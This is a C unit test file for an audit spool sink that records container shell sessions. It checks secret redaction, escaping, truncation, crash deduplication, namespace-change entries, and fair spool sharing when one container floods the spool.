// SPDX-License-Identifier: Apache-2.0
/* sink_spool: capture entries into the spool as AuditRecord entries:
 * redacted (a secret split over arguments too; a rule that cannot finish
 * keeps the command's name), as typed or escaped and marked so, bounded,
 * kept once across a crash; what the full spool refused comes back as a gap
 * in each chain that lost entries, with that chain's count; and the entry
 * that ends a container's chain when auditing stops while it runs; namespace
 * changes and capture that was off as entries of their own; the export's
 * lines say who opened the session, or the root whose decision follows; a
 * held container (storage budget) adds its share of the spool at most, the
 * rest of its entries lost into the same per-session pending gap as the
 * full spool's, written once the hold ends, while the export gets them all
 * and other containers keep spooling. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "clock.h"
#include "escape.h"
#include "export.h"
#include "sink_spool.h"
#include "timefmt.h"
#include "unit.h"
#include "util.h"

static char dir[64];
static struct sink_spool_target target;

/* The wall clock as this program sees it: the real one plus wall_shift_s
 * (a step of NTP's, a VM's host), the monotonic one untouched. */
static time_t wall_shift_s;

// NOLINTNEXTLINE(readability-inconsistent-declaration-parameter-name): libc's names are reserved
int clock_gettime(clockid_t id, struct timespec *ts)
{
	int r = (int)syscall(SYS_clock_gettime, id, ts);

	if (r == 0 && id == CLOCK_REALTIME)
		ts->tv_sec += wall_shift_s;
	return r;
}

static const struct sink_spool_target *lookup(const char *container, void *arg)
{
	(void)arg;
	return strcmp(container, "containerd://c1") ? NULL : &target;
}

/* All records the spool forms once the sessions end. */
static cJSON *records(struct spool *sp)
{
	cJSON *all = cJSON_CreateArray(), *rec;
	uint64_t pos;

	spool_end_session(sp, "containerd://c1", "7");
	spool_end_session(sp, "containerd://c1", "");
	spool_tick(sp);
	while (spool_next_record(sp, &rec, &pos) == 0) {
		cJSON_AddItemToArray(all, rec);
		spool_record_done(sp, pos);
	}
	return all;
}

static const cJSON *entry(const cJSON *all, int rec, int i)
{
	return cJSON_GetArrayItem(
		cJSON_GetObjectItem(cJSON_GetObjectItem(cJSON_GetArrayItem(all, rec), "spec"),
				    "entries"),
		i);
}

static void test_sink_spool_redacts_escapes_and_filters(void)
{
	struct spool_opts so = { .dir = dir };
	cJSON *id = cJSON_Parse(
		"{\"ns\":\"n\",\"pod\":\"p\",\"podUID\":\"u\",\"container\":\"c\","
		"\"containerID\":\"containerd://c1\",\"node\":\"x\",\"retention\":\"1h\"}");
	cJSON *rules = cJSON_Parse(
		"[{\"name\":\"tok\",\"pattern\":\"token=\\\\S+\",\"replacement\":\"token=***\"}]");
	struct redact_set *rs = NULL;
	struct spool *sp;
	struct sink *sink;
	char err[128];
	static const char argv[] = "curl\0-H\0token=abc\0http://x";
	struct sink_entry line = { .kind = SINK_LINE,
				   .container = "containerd://c1",
				   .session = 7,
				   .pid = 7,
				   .text = "echo token=s3cr3t \x1b[2J\xff",
				   .text_len = 23 };
	struct sink_entry exec = { .kind = SINK_EXEC, .container = "containerd://c1", .session = 7,
				   .pid = 8, .ppid = 7, .text = argv, .text_len = sizeof(argv) - 1,
				   .argc = 4, .filename = "/usr/bin/curl", .filename_len = 13 };
	struct sink_entry other = line;
	cJSON *all;

	other.container = "containerd://elsewhere";
	UNIT_CHECK(redact_compile(rules, &rs, err, sizeof(err)) == 0);
	target = (struct sink_spool_target){ id, rs, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	UNIT_CHECK(sink_write(sink, &line) == 0);
	UNIT_CHECK(sink_write(sink, &exec) == 0);
	UNIT_CHECK(sink_write(sink, &other) == 0);
	target.readline = false;
	UNIT_CHECK(sink_write(sink, &line) == 0);
	UNIT_CHECK(sink_spool_gap(sink, "containerd://c1", 3, "ring buffer full") == 0);
	all = records(sp);
	UNIT_CHECK(cJSON_GetArraySize(all) == 2);
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(entry(all, 0, 0), "text")),
		       "echo token=*** \\e[2J\\xff");
	UNIT_CHECK(cJSON_GetObjectItem(entry(all, 0, 0), "redacted") != NULL);
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(entry(all, 0, 1), "kind")), "exec");
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetArrayItem(
			       cJSON_GetObjectItem(entry(all, 0, 1), "argv"), 2)),
		       "token=***");
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(entry(all, 0, 1), "text")),
		       "curl -H token=*** http://x");
	UNIT_CHECK(cJSON_GetArraySize(cJSON_GetObjectItem(
			   cJSON_GetObjectItem(cJSON_GetArrayItem(all, 0), "spec"), "entries")) ==
		   2);
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(entry(all, 1, 0), "kind")), "gap");
	UNIT_CHECK(cJSON_GetNumberValue(cJSON_GetObjectItem(entry(all, 1, 0), "count")) == 3);
	cJSON_Delete(all);
	sink_close(sink);
	spool_close(sp);
	redact_free(rs);
	cJSON_Delete(rules);
	cJSON_Delete(id);
}

/* execFrom Sessions: the execs of the container's own processes (no
 * session root) are not recorded; those of a process that entered it, and
 * of its descendants, are. */
static void test_sink_spool_exec_from_sessions(void)
{
	char sub[96];
	struct spool_opts so = { .dir = sub };
	cJSON *id = cJSON_Parse(
		"{\"ns\":\"n\",\"pod\":\"p\",\"podUID\":\"u\",\"container\":\"c\","
		"\"containerID\":\"containerd://c1\",\"node\":\"x\",\"retention\":\"1h\"}");
	static const char own[] = "true\0loop", by[] = "echo\0by-a-person";
	struct sink_entry loop = { .kind = SINK_EXEC,
				   .container = "containerd://c1",
				   .session = 1,
				   .pid = 50,
				   .tid = 50,
				   .ts = 1,
				   .text = own,
				   .text_len = sizeof(own) - 1,
				   .argc = 2,
				   .filename = "/bin/true",
				   .filename_len = 9 };
	struct sink_entry person = { .kind = SINK_EXEC,
				     .container = "containerd://c1",
				     .session = 60,
				     .pid = 61,
				     .tid = 61,
				     .ts = 2,
				     .text = by,
				     .text_len = sizeof(by) - 1,
				     .argc = 2,
				     .filename = "/bin/echo",
				     .filename_len = 9,
				     .session_root = 60 };
	struct spool *sp;
	struct sink *sink;
	cJSON *all;
	int n = 0;

	snprintf(sub, sizeof(sub), "%s/execfrom", dir);
	target = (struct sink_spool_target){ id, NULL, true, true, true, true, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	UNIT_CHECK(sink_write(sink, &loop) == 0);
	UNIT_CHECK(sink_write(sink, &person) == 0);
	/* execFrom All again: the loop's next exec is recorded. */
	target.exec_sessions = false;
	loop.ts = 3;
	UNIT_CHECK(sink_write(sink, &loop) == 0);
	spool_end_session(sp, "containerd://c1", "60");
	spool_end_session(sp, "containerd://c1", "1");
	all = records(sp);
	for (int r = 0; r < cJSON_GetArraySize(all); r++)
		for (int e = 0; entry(all, r, e); e++) {
			const char *f = cJSON_GetStringValue(
				cJSON_GetObjectItem(entry(all, r, e), "filename"));

			UNIT_CHECK(f && (!strcmp(f, "/bin/echo") || !strcmp(f, "/bin/true")));
			n += f && !strcmp(f, "/bin/true") ? 1 : f ? 10 : 0;
		}
	/* One echo, and the one true exec made under All. */
	UNIT_CHECK(n == 11);
	cJSON_Delete(all);
	sink_close(sink);
	spool_close(sp);
	cJSON_Delete(id);
}

static void test_sink_spool_terminal_lines(void)
{
	char sub[96];
	struct spool_opts so = { .dir = sub };
	cJSON *id = cJSON_Parse(
		"{\"ns\":\"n\",\"pod\":\"p\",\"podUID\":\"u\",\"container\":\"c\","
		"\"containerID\":\"containerd://c1\",\"node\":\"x\",\"retention\":\"1h\"}");
	struct sink_entry l1 = { .kind = SINK_LINE, .source = SINK_SOURCE_TERMINAL,
				 .container = "containerd://c1", .session = 7, .pid = 7, .tid = 7,
				 .ts = 99, .text = "echo one", .text_len = 8, .inexact = true };
	struct sink_entry l2 = l1, pw = l1, rl = l1, sd = l1;
	struct spool *sp;
	struct sink *sink;
	const cJSON *e;
	cJSON *all;

	/* Two lines of one read (a paste): same time and thread. */
	l2.text = "echo two";
	l2.part = 1;
	l2.inexact = false;
	pw.text = "[not recorded: typed with echo off]";
	pw.text_len = strlen(pw.text);
	pw.echo_off = true;
	pw.inexact = false;
	pw.ts = 100;
	rl.source = SINK_SOURCE_READLINE;
	rl.ts = 101;
	rl.inexact = false;
	/* A line read from the session's stdin pipe. */
	sd.source = SINK_SOURCE_STDIN;
	sd.ts = 102;
	sd.inexact = false;
	sd.text = "echo piped";
	sd.text_len = strlen(sd.text);
	snprintf(sub, sizeof(sub), "%s/terminal", dir);
	target = (struct sink_spool_target){ id, NULL, false, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	UNIT_CHECK(sink_write(sink, &l1) == 0);
	UNIT_CHECK(sink_write(sink, &l2) == 0);
	UNIT_CHECK(sink_write(sink, &pw) == 0);
	/* readline: false keeps readline's lines out, not the terminal's. */
	UNIT_CHECK(sink_write(sink, &rl) == 0);
	UNIT_CHECK(sink_write(sink, &sd) == 0);
	/* terminal: false keeps them out, stdin lines too. */
	target.terminal = false;
	UNIT_CHECK(sink_write(sink, &l1) == 0);
	sd.ts = 103;
	UNIT_CHECK(sink_write(sink, &sd) == 0);
	all = records(sp);
	UNIT_CHECK(cJSON_GetArraySize(cJSON_GetObjectItem(
			   cJSON_GetObjectItem(cJSON_GetArrayItem(all, 0), "spec"), "entries")) ==
		   4);
	e = entry(all, 0, 3);
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(e, "text")), "echo piped");
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(e, "source")), "stdin");
	e = entry(all, 0, 0);
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(e, "source")), "terminal");
	UNIT_CHECK(cJSON_IsTrue(cJSON_GetObjectItem(e, "inexact")));
	e = entry(all, 0, 1);
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(e, "text")), "echo two");
	UNIT_CHECK(!cJSON_GetObjectItem(e, "inexact"));
	e = entry(all, 0, 2);
	UNIT_CHECK_STR(
		cJSON_GetStringValue(cJSON_GetArrayItem(cJSON_GetObjectItem(e, "redacted"), 0)),
		"echo-off");
	cJSON_Delete(all);
	sink_close(sink);
	spool_close(sp);
	cJSON_Delete(id);
}

/* "2026-12-04T22:13:08.123456Z" as seconds since the epoch, -1 if not. */
static time_t entry_epoch(const cJSON *e)
{
	const char *t = cJSON_GetStringValue(cJSON_GetObjectItem(e, "time"));
	struct tm tm = { 0 };

	if (!t || !strptime(t, "%Y-%m-%dT%H:%M:%S", &tm))
		return -1;
	return timegm(&tm);
}

/* An entry's time is the wall clock's when it was captured, as the wall
 * clock says then: a step of the wall clock after the sink opened moves
 * the entries after it (an offset kept from the start would not). */
static void test_sink_spool_entry_time_follows_the_wall_clock(void)
{
	char sub[96];
	struct spool_opts so = { .dir = sub };
	cJSON *id = cJSON_Parse(
		"{\"ns\":\"n\",\"pod\":\"p\",\"podUID\":\"u\",\"container\":\"c\","
		"\"containerID\":\"containerd://c1\",\"node\":\"x\",\"retention\":\"1h\"}");
	struct sink_entry l1 = { .kind = SINK_LINE,
				 .source = SINK_SOURCE_TERMINAL,
				 .container = "containerd://c1",
				 .session = 7,
				 .pid = 7,
				 .tid = 7,
				 .text = "echo before",
				 .text_len = 11 };
	struct sink_entry l2 = l1;
	struct spool *sp;
	struct sink *sink;
	time_t before, after;
	cJSON *all;

	snprintf(sub, sizeof(sub), "%s/wallclock", dir);
	target = (struct sink_spool_target){ id, NULL, false, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	l1.ts = clock_now_ns();
	UNIT_CHECK(sink_write(sink, &l1) == 0);
	wall_shift_s = 3600;
	l2.ts = clock_now_ns();
	l2.text = "echo after";
	l2.text_len = 10;
	UNIT_CHECK(sink_write(sink, &l2) == 0);
	wall_shift_s = 0;
	all = records(sp);
	before = entry_epoch(entry(all, 0, 0));
	after = entry_epoch(entry(all, 0, 1));
	UNIT_CHECK(before > 0 && after - before >= 3599 && after - before <= 3601);
	cJSON_Delete(all);
	sink_close(sink);
	spool_close(sp);
	cJSON_Delete(id);
}

static void test_sink_spool_bounds_long_lines(void)
{
	struct spool_opts so = { .dir = dir };
	cJSON *id = cJSON_Parse(
		"{\"ns\":\"n\",\"pod\":\"p\",\"podUID\":\"u\",\"container\":\"c\","
		"\"containerID\":\"containerd://c1\",\"node\":\"x\",\"retention\":\"1h\"}");
	static char big[10000];
	struct sink_entry line = { .kind = SINK_LINE, .container = "containerd://c1", .session = 7,
				   .text = big, .text_len = sizeof(big) };
	struct spool *sp;
	struct sink *sink;
	cJSON *all;
	const char *text;

	memset(big, '\x01', sizeof(big));
	target = (struct sink_spool_target){ id, NULL, true, true, true, false, NULL };
	spool_open(&so, &sp);
	sink_spool_open(sp, lookup, NULL, &sink);
	sink_write(sink, &line);
	all = records(sp);
	text = cJSON_GetStringValue(
		cJSON_GetObjectItem(entry(all, cJSON_GetArraySize(all) - 1, 0), "text"));
	UNIT_CHECK(text && strlen(text) <= 4096 && strlen(text) > 4000);
	UNIT_CHECK(cJSON_IsTrue(
		cJSON_GetObjectItem(entry(all, cJSON_GetArraySize(all) - 1, 0), "truncated")));
	cJSON_Delete(all);
	sink_close(sink);
	spool_close(sp);
	cJSON_Delete(id);
}

/* An agent killed after spooling an event and before the ring buffer
 * learnt it was read meets the event again: it is kept once. Only the last
 * entry is compared; any other event, even at the same time, is kept. */
static void test_sink_spool_event_met_again_after_restart_is_kept_once(void)
{
	char sub[96];
	struct spool_opts so = { .dir = sub };
	cJSON *id = cJSON_Parse(
		"{\"ns\":\"n\",\"pod\":\"p\",\"podUID\":\"u\",\"container\":\"c\","
		"\"containerID\":\"containerd://c1\",\"node\":\"x\",\"retention\":\"1h\"}");
	struct sink_entry a = { .kind = SINK_LINE, .container = "containerd://c1", .session = 7,
				.ts = 1000, .pid = 7, .tid = 7, .text = "a", .text_len = 1 };
	struct sink_entry b = a, c = a;
	struct spool *sp;
	struct sink *sink;
	cJSON *all;
	int i, n = 0;

	b.ts = 2000;
	b.text = "b";
	c.tid = 8; /* same time, another thread */
	c.text = "c";
	snprintf(sub, sizeof(sub), "%s/again", dir);
	target = (struct sink_spool_target){ id, NULL, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	UNIT_CHECK(sink_write(sink, &a) == 0);
	UNIT_CHECK(sink_write(sink, &b) == 0);
	sink_close(sink);
	spool_close(sp); /* the crash: nothing else happens */
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	UNIT_CHECK(sink_write(sink, &b) == 0); /* met again: dropped */
	UNIT_CHECK(sink_write(sink, &c) == 0);
	UNIT_CHECK(sink_write(sink, &a) == 0); /* not the last one: a new event */
	all = records(sp);
	for (i = 0; i < cJSON_GetArraySize(all); i++)
		n += cJSON_GetArraySize(cJSON_GetObjectItem(
			cJSON_GetObjectItem(cJSON_GetArrayItem(all, i), "spec"), "entries"));
	UNIT_CHECK(n == 4);
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(entry(all, 0, 1), "text")), "b");
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(entry(all, 0, 2), "text")), "c");
	UNIT_CHECK(cJSON_GetObjectItem(entry(all, 0, 2), "k") == NULL);
	cJSON_Delete(all);
	sink_close(sink);
	spool_close(sp);
	cJSON_Delete(id);
}

/* After a crash between spooling and releasing records: which of the ring
 * buffer's first records have their entries in the spool already. */
static void test_sink_spool_knows_the_records_it_spooled_before_a_crash(void)
{
	char sub[96];
	struct spool_opts so = { .dir = sub };
	cJSON *id = cJSON_Parse(
		"{\"ns\":\"n\",\"pod\":\"p\",\"podUID\":\"u\",\"container\":\"c\","
		"\"containerID\":\"containerd://c1\",\"node\":\"x\",\"retention\":\"1h\"}");
	struct sink_entry rl = { .kind = SINK_LINE,
				 .container = "containerd://c1",
				 .session = 7,
				 .ts = 1000,
				 .pid = 7,
				 .tid = 7,
				 .text = "a",
				 .text_len = 1 };
	struct sink_entry tty = rl;
	struct sa_event_hdr h[6] = {
		{ .type = SA_EV_LINE, .ts = 1000, .pid = 7 }, /* rl: spooled */
		{ .type = SA_EV_TTY, .ts = 3000, .pid = 7 },  /* tty's read: spooled */
		{ .type = SA_EV_TTY, .ts = 3000, .pid = 8 },  /* another thread */
		{ .type = SA_EV_EXEC, .ts = 1000, .pid = 7 }, /* another kind */
		{ .type = SA_EV_EXIT, .ts = 1000, .pid = 7 }, /* no entry of its own */
		{ .type = SA_EV_LINE, .ts = 4000, .pid = 7 }, /* gathered, never written */
	};
	struct capture_event evs[6];
	bool out[6] = { false };
	struct spool *sp;
	struct sink *sink;
	int i, status;
	pid_t pid;

	tty.ts = 3000;
	tty.source = SINK_SOURCE_TERMINAL;
	tty.part = 1; /* the second line that read completed */
	tty.text = "b";
	for (i = 0; i < 6; i++)
		evs[i] = (struct capture_event){ .hdr = &h[i] };
	snprintf(sub, sizeof(sub), "%s/handled", dir);
	target = (struct sink_spool_target){ id, NULL, true, true, true, false, NULL };
	/* An agent that dies (_exit) having gathered one more entry after
	 * the settle: that one is never written. */
	fflush(NULL);
	if ((pid = fork()) == 0) {
		if (spool_open(&so, &sp) || sink_spool_open(sp, lookup, NULL, &sink) ||
		    sink_gather(sink, true) || sink_write(sink, &rl) || sink_write(sink, &tty) ||
		    sink_settle(sink))
			_exit(2);
		rl.ts = 4000;
		_exit(sink_write(sink, &rl) ? 2 : 0);
	}
	UNIT_CHECK(pid > 0 && waitpid(pid, &status, 0) == pid && WIFEXITED(status) &&
		   WEXITSTATUS(status) == 0);
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	sink_spool_handled(sink, evs, 6, out);
	UNIT_CHECK(out[0] && out[1]);
	UNIT_CHECK(!out[2] && !out[3] && !out[4] && !out[5]);
	sink_close(sink);
	spool_close(sp);
	cJSON_Delete(id);
}

static void test_sink_spool_stopped_is_the_chain_last_entry(void)
{
	char sub[96];
	struct spool_opts so = { .dir = sub };
	cJSON *id = cJSON_Parse(
		"{\"ns\":\"n\",\"pod\":\"p\",\"podUID\":\"u\",\"container\":\"c\","
		"\"containerID\":\"containerd://c1\",\"node\":\"x\",\"retention\":\"1h\"}");
	cJSON *gone = cJSON_Parse(
		"{\"ns\":\"n\",\"pod\":\"q\",\"podUID\":\"v\",\"container\":\"c\","
		"\"containerID\":\"containerd://gone\",\"node\":\"x\",\"retention\":\"1h\"}");
	struct sink_entry line = { .kind = SINK_LINE, .container = "containerd://c1", .session = 7,
				   .pid = 7, .text = "ls", .text_len = 2 };
	struct sink_entry end = { .kind = SINK_SESSION_END, .container = "containerd://c1",
				  .session = 7 };
	cJSON *all = cJSON_CreateArray(), *rec;
	const cJSON *last;
	struct spool *sp;
	struct sink *sink;
	uint64_t pos;
	int n;

	mkdir(dir, 0700);
	snprintf(sub, sizeof(sub), "%s/stopped", dir);
	target = (struct sink_spool_target){ id, NULL, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	UNIT_CHECK(sink_write(sink, &line) == 0);
	UNIT_CHECK(sink_write(sink, &end) == 0);
	UNIT_CHECK(sink_spool_stopped(sink, "containerd://c1", id, "target removed") == 0);
	/* a container the lookup no longer knows: its identity is given */
	UNIT_CHECK(sink_spool_stopped(sink, "containerd://gone", gone, "target removed") == 0);
	spool_tick(sp);
	while (spool_next_record(sp, &rec, &pos) == 0) {
		cJSON_AddItemToArray(all, rec);
		spool_record_done(sp, pos);
	}
	/* no end of session needed: the stop cut its record at once */
	UNIT_CHECK(cJSON_GetArraySize(all) == 3);
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(entry(all, 0, 0), "text")), "ls");
	n = cJSON_GetArraySize(cJSON_GetObjectItem(
		cJSON_GetObjectItem(cJSON_GetArrayItem(all, 1), "spec"), "entries"));
	last = entry(all, 1, n - 1);
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(last, "kind")), "audit_stopped");
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(last, "text")), "target removed");
	UNIT_CHECK(cJSON_GetNumberValue(cJSON_GetObjectItem(
			   cJSON_GetObjectItem(cJSON_GetArrayItem(all, 1), "spec"), "sequence")) ==
		   1);
	UNIT_CHECK_STR(
		cJSON_GetStringValue(cJSON_GetObjectItem(
			cJSON_GetObjectItem(cJSON_GetArrayItem(all, 2), "spec"), "containerID")),
		"containerd://gone");
	cJSON_Delete(all);
	sink_close(sink);
	spool_close(sp);
	cJSON_Delete(id);
	cJSON_Delete(gone);
}

/* A namespace change is an entry of its session whatever the policy
 * captures; capture that was off is an entry of the chain outside any
 * session, with since when and why. */
static void test_sink_spool_namespace_and_off_entries(void)
{
	char sub[96];
	struct spool_opts so = { .dir = sub };
	cJSON *id = cJSON_Parse(
		"{\"ns\":\"n\",\"pod\":\"p\",\"podUID\":\"u\",\"container\":\"c\","
		"\"containerID\":\"containerd://c1\",\"node\":\"x\",\"retention\":\"1h\"}");
	struct sink_entry ns = {
		.kind = SINK_NAMESPACE,
		.container = "containerd://c1",
		.session = 7,
		.ts = 1000,
		.pid = 9,
		.tid = 9,
		.ppid = 7,
		.session_root = 7,
		.how = "changed",
		.nns = 2,
		.ns = { { "mnt", 4026532177u, 4026532301u }, { "user", 4026531837u, 4026532300u } },
		.text = "unshare, setns, chroot or pivot_root: mnt 4026532177 -> 4026532301",
		.text_len = 66
	};
	/* 400 us apart: the times are kept to the microsecond. */
	struct sink_entry off = { .kind = SINK_OFF,
				  .container = "containerd://c1",
				  .ts = 900000,
				  .since = 500000,
				  .reason = "target-added",
				  .text = "auditing starts",
				  .text_len = 15 };
	struct spool *sp;
	struct sink *sink;
	const cJSON *e, *list;
	cJSON *all;

	snprintf(sub, sizeof(sub), "%s/ns", dir);
	/* Neither lines nor execs: the namespace entry is kept all the same. */
	target = (struct sink_spool_target){ id, NULL, false, false, false, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup, NULL, &sink) == 0);
	UNIT_CHECK(sink_write(sink, &off) == 0);
	UNIT_CHECK(sink_write(sink, &ns) == 0);
	all = records(sp);
	UNIT_CHECK(cJSON_GetArraySize(all) == 2);
	/* The session's record first (records() ends it first). */
	e = entry(all, 0, 0);
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(e, "kind")), "namespace");
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(e, "how")), "changed");
	UNIT_CHECK(cJSON_GetNumberValue(cJSON_GetObjectItem(e, "sessionRoot")) == 7);
	list = cJSON_GetObjectItem(e, "namespaces");
	UNIT_CHECK(cJSON_GetArraySize(list) == 2);
	UNIT_CHECK_STR(
		cJSON_GetStringValue(cJSON_GetObjectItem(cJSON_GetArrayItem(list, 1), "type")),
		"user");
	UNIT_CHECK(cJSON_GetNumberValue(cJSON_GetObjectItem(cJSON_GetArrayItem(list, 0), "to")) ==
		   4026532301.0);
	UNIT_CHECK(strstr(cJSON_GetStringValue(cJSON_GetObjectItem(e, "text")), "mnt 4026532177") !=
		   NULL);
	e = entry(all, 1, 0);
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(e, "kind")), "off");
	UNIT_CHECK_STR(cJSON_GetStringValue(cJSON_GetObjectItem(e, "reason")), "target-added");
	UNIT_CHECK(cJSON_GetStringValue(cJSON_GetObjectItem(e, "since")) != NULL);
	UNIT_CHECK(strcmp(cJSON_GetStringValue(cJSON_GetObjectItem(e, "since")),
			  cJSON_GetStringValue(cJSON_GetObjectItem(e, "time"))) < 0);
	cJSON_Delete(all);
	sink_close(sink);
	spool_close(sp);
	cJSON_Delete(id);
}


static struct sink_spool_target victim;

static const struct sink_spool_target *lookup2(const char *container, void *arg)
{
	(void)arg;
	if (!strcmp(container, "containerd://c1"))
		return &target;
	return strcmp(container, "containerd://c2") ? NULL : &victim;
}

static cJSON *ident(const char *cid, const char *pod)
{
	cJSON *id = cJSON_Parse("{\"ns\":\"n\",\"podUID\":\"u\",\"container\":\"c\",\"node\":\"x\","
				"\"retention\":\"1h\"}");

	cJSON_AddStringToObject(id, "pod", pod);
	cJSON_AddStringToObject(id, "containerID", cid);
	return id;
}

/* Durability is the journal's test's: here it only costs time. */
static int no_datasync(int fd)
{
	(void)fd;
	return 0;
}

/* Publishes everything as accepted, with its Events, until nothing waits.
 * Each turn 2 ms apart: the spool acknowledges what was published at its
 * checkpoint (checkpoint_ms), and three turns within a millisecond (a fast
 * machine) left it unacknowledged, the container's bytes still counted. */
static void drain_all(struct spool *sp, cJSON *keep)
{
	struct timespec turn = { 0, 2000000 };
	cJSON *item;
	uint64_t pos;
	int i;

	for (i = 0; i < 50 && !(i > 2 && spool_idle(sp)); i++) {
		if (i)
			nanosleep(&turn, NULL);
		spool_tick(sp);
		while (spool_next_record(sp, &item, &pos) == 0) {
			if (keep)
				cJSON_AddItemToArray(keep, item);
			else
				cJSON_Delete(item);
			spool_record_done(sp, pos);
		}
		while (spool_next_event(sp, &item, &pos) == 0) {
			cJSON_Delete(item);
			spool_event_done(sp, pos);
		}
	}
}

/* The gap entries of the records of container cid and session (NULL: any;
 * "": outside sessions): their counts added. */
static uint64_t gaps_of(const cJSON *recs, const char *cid, const char *session)
{
	const cJSON *r, *e;
	uint64_t n = 0;

	cJSON_ArrayForEach(r, recs) {
		const cJSON *spec = cJSON_GetObjectItem(r, "spec");
		const char *sid = cJSON_GetStringValue(
			cJSON_GetObjectItem(cJSON_GetObjectItem(spec, "session"), "id"));

		if (strcmp(cJSON_GetStringValue(cJSON_GetObjectItem(spec, "containerID")), cid) ||
		    (session && *session && (!sid || strcmp(sid, session))) ||
		    (session && !*session && sid))
			continue;
		cJSON_ArrayForEach(e, cJSON_GetObjectItem(spec, "entries"))
			if (!strcmp(cJSON_GetStringValue(cJSON_GetObjectItem(e, "kind")), "gap"))
				n += (uint64_t)cJSON_GetNumberValue(
					cJSON_GetObjectItem(e, "count"));
	}
	return n;
}

static int lines_of(const cJSON *recs, const char *cid);

/* The review's M1: the spool-full gap went into whichever container wrote
 * next, so the victim's chain verified with its lines missing. And a flood
 * takes its share of the spool (SINK_SPOOL_SHARE_PCT), not all of it. */
static void test_sink_spool_full_gap_goes_to_each_chain_that_lost(void)
{
	char sub[96];
	struct spool_opts so = { .dir = sub, .max_bytes = 16384, .checkpoint_ms = 1,
				 .batch_age_ms = 1, .datasync = no_datasync };
	cJSON *a = ident("containerd://c1", "attacker"), *v = ident("containerd://c2", "victim");
	struct sink_entry line = { .kind = SINK_LINE,
				   .container = "containerd://c1",
				   .session = 7,
				   .pid = 7,
				   .text = "yes yes yes yes yes yes yes yes",
				   .text_len = 31 };
	struct sink_entry vline = { .kind = SINK_LINE, .container = "containerd://c2", .session = 9,
				    .pid = 9, .text = "the victim's secret work", .text_len = 24 };
	struct sink_spool_stats st;
	struct spool *sp;
	struct sink *sink;
	cJSON *recs = cJSON_CreateArray();
	uint64_t lost_a, lost_v, i;

	snprintf(sub, sizeof(sub), "%s/full", dir);
	target = (struct sink_spool_target){ a, NULL, true, true, true, false, NULL };
	victim = (struct sink_spool_target){ v, NULL, true, true, true, false, NULL };
	UNIT_CHECK(spool_open(&so, &sp) == 0);
	UNIT_CHECK(sink_spool_open(sp, lookup2, NULL, &sink) == 0);
	for (i = 0; i < 2000; i++) {
		line.ts = i + 1;
		line.tid = 7;
		UNIT_CHECK(sink_write(sink, &line) == 0);
	}
	sink_spool_get_stats(sink, &st);
	lost_a = st.dropped_full;
	UNIT_CHECK(lost_a > 1000);
	/* The flood took its share, not the spool: the victim's lines go in. */
	for (i = 0; i < 5; i++) {
		vline.ts = 100000 + i;
		UNIT_CHECK(sink_write(sink, &vline) == 0);
	}
	sink_spool_get_stats(sink, &st);
	UNIT_CHECK(st.dropped_full == lost_a && st.pending == 1);
	/* Then the victim fills the rest, and loses too. */
	for (i = 5; i < 2000; i++) {
		vline.ts = 100000 + i;
		UNIT_CHECK(sink_write(sink, &vline) == 0);
	}
	sink_spool_get_stats(sink, &st);
	lost_v = st.dropped_full - lost_a;
	UNIT_CHECK(lost_v > 100 && st.pending == 2);
	/* The publisher catches up; the gaps go in, each where it belongs. */
	drain_all(sp, recs);
	UNIT_CHECK(sink_flush(sink) == 0);
	sink_spool_get_stats(sink, &st);
	UNIT_CHECK(st.pending == 0 && st.gaps >= 2);
	spool_end_session(sp, "containerd://c1", "7");
	spool_end_session(sp, "containerd://c2", "9");
	drain_all(sp, recs);
	UNIT_CHECK(gaps_of(recs, "containerd://c2", "9") == lost_v);
	UNIT_CHECK(gaps_of(recs, "containerd://c1", "7") == lost_a);
	UNIT_CHECK(lines_of(recs, "containerd://c2") + (int)lost_v == 2000);
	cJSON_Delete(recs);
	sink_close(sink);
	spool_close(sp);
	cJSON_Delete(a);
	cJSON_Delete(v);
}

/* No Event for an exec: execs fold as they are spooled. */
